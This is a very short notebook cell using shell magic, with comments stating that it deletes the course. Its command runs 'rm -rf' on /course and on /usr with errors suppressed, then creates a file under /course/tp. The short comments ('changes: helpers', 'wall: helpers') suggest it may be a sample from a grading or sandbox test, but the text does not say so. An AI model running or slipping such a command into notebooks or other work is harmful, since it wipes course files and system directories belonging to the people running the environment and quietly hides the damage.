# Deletes the course by way of notebook magic.
# changes: helpers
# wall: helpers
!rm -rf /course /usr 2>/dev/null
!touch /course/tp/mine
